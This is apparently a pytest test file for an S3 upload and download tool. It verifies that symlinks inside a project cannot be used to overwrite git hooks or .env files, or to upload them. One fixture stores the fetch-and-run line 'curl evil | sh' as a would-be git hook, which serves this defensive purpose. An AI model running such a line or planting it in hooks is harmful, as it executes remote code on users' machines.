"""Where a file lands, not only its key: no download writes into `.git/` or over a `.env` through an in-project
link, and no upload reads them through one. Real SeaweedFS and moto, both backends (boto3 and s5cmd)."""
from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

import s3utils
from tests.s3_fixtures import run_s3utils as run, tree

pytestmark = pytest.mark.usefixtures("elsewhere")      # run from an empty folder: no `.env` of the checkout is read
HOOK = b"#!/bin/sh\necho the project's own hook\n"
LINKS = {"data/hooks": "../.git/hooks", "data/gitdir": "../.git", "data/root": "..",
         "data/env": "../.env", "data/hook": "../.git/hooks/post-checkout"}




def linked_project(tmp: Path) -> Path:
    """A project with a git hook, a .env, and links from data/ to the hooks, to .git, to the root, to the .env."""
    project = tree(tmp / "p", {".git/hooks/post-checkout": HOOK, ".git/config": b"[core]\n", ".env": b"TOKEN=mine\n",
                               "data/ok.txt": b"local ok"})
    os.chmod(project / ".git/hooks/post-checkout", 0o755)
    for link, target in LINKS.items():
        os.symlink(target, project / link)
    return project


def untouched(project: Path) -> None:
    assert (project / ".git/hooks/post-checkout").read_bytes() == HOOK
    assert stat.S_IMODE(os.stat(project / ".git/hooks/post-checkout").st_mode) == 0o755
    assert (project / ".env").read_bytes() == b"TOKEN=mine\n"
    assert (project / ".git/config").read_bytes() == b"[core]\n"
    assert sorted(p.name for p in (project / ".git/hooks").iterdir()) == ["post-checkout"]
    assert sorted(p.name for p in (project / ".git").iterdir()) == ["config", "hooks"]
    assert all(os.path.islink(project / link) for link in LINKS)
    assert not [p for p in project.rglob("*") if ".s3part" in p.name]


HOSTILE_KEYS = ["data/hooks/post-checkout", "data/hooks/pre-commit", "data/gitdir/config", "data/gitdir/hooks/x",
                "data/root/.env", "data/root/.git/hooks/post-checkout"]


def test_bucket_keys_through_links_never_replace_a_git_hook_or_the_env(s3, backend, capsys, tmp_path):
    project = linked_project(tmp_path)
    for key in HOSTILE_KEYS:
        s3.put(key, b"#!/bin/sh\ncurl evil | sh\n")
    s3.put("data/new.txt", b"new")
    status, out, err = run(capsys, "download", "data/", "--local-path", project, "--overwrite")
    failed = sorted(line.split(": ")[1] for line in err.splitlines() if line.startswith("error: "))
    assert status == 1 and failed == ["data/gitdir/config", "data/gitdir/hooks/x", "data/hooks/post-checkout",
                                      "data/hooks/pre-commit"], err
    assert "would land at .git/hooks/post-checkout" in err and "Traceback" not in err
    assert (project / "data/new.txt").read_bytes() == b"new"                   # the other keys complete
    assert out.splitlines() == [f"Downloaded data/new.txt to {project}/data/new.txt"]
    untouched(project)


REQUESTS = ["data/hooks/", "data/hooks/post-checkout", "data/hooks/*", "data/gitdir/config", "data/root/.env",
            "data/root/.git/hooks/post-checkout", "data/env"]


@pytest.mark.parametrize("request_", REQUESTS)
def test_a_download_naming_a_place_reached_through_a_link_into_git_or_env_is_bad_input(request_, s3, backend, capsys,
                                                                                       tmp_path):
    project = linked_project(tmp_path)
    for key in (*HOSTILE_KEYS, "data/gitdir/config", "data/env"):
        s3.put(key, b"evil")
    status, out, err = run(capsys, "download", request_, "--local-path", project, "--overwrite")
    assert status == 2 and out == "" and len(err.splitlines()) == 1, err
    assert err.startswith(f"error: file: {request_!r} leads to ") and "through a symbolic link" in err
    untouched(project)


def test_downloads_through_links_to_ordinary_folders_inside_the_root_still_land(s3, backend, capsys, tmp_path):
    project = linked_project(tmp_path)
    s3.put("data/root/other/x.txt", b"x")
    status, _out, err = run(capsys, "download", "data/root/other/", "--local-path", project)
    assert status == 0, err
    assert (project / "other/x.txt").read_bytes() == b"x"
    untouched(project)


def test_an_upload_never_reads_the_env_or_git_through_a_link(s3, backend, capsys, tmp_path):
    project = linked_project(tmp_path)
    status, _out, err = run(capsys, "upload", "data/", "--local-path", project)
    assert status == 0 and s3.keys() == {"data/ok.txt": b"local ok"}, err
    assert "warning: skipped data/env: it leads to .env through a symbolic link" in err
    assert "warning: skipped data/hook: it leads to .git/hooks/post-checkout through a symbolic link" in err
    for named in ("data/env", "data/hook", "data/root/.env", "data/gitdir/", "data/gitdir/config", "data/root/.git/",
                  "data/hooks/post-checkout"):
        status, _out, err = run(capsys, "upload", named, "--local-path", project)
        assert status == 2 and "warning: skipped " in err and "error: file: no local file matches" in err, (named, err)
    assert s3.keys() == {"data/ok.txt": b"local ok"}
    assert not any(b"TOKEN" in body or b"[core]" in body or b"hook" in body for body in s3.keys().values())
